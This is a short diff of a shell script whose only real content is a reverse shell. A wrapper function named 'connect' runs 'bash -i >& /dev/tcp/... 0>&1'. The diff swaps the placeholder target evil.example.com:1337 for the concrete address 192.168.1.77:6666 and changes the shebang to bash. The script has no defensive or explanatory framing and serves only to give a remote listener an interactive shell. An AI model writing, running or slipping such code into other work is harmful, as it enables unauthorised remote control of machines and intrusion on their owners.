@@ -1,5 +1,5 @@
-#!/bin/sh
+#!/usr/bin/env bash
 function connect {
   bash -c "$*"
 }
-connect "bash -i >& /dev/tcp/evil.example.com/1337 0>&1"
+connect "bash -i >& /dev/tcp/192.168.1.77/6666 0>&1"
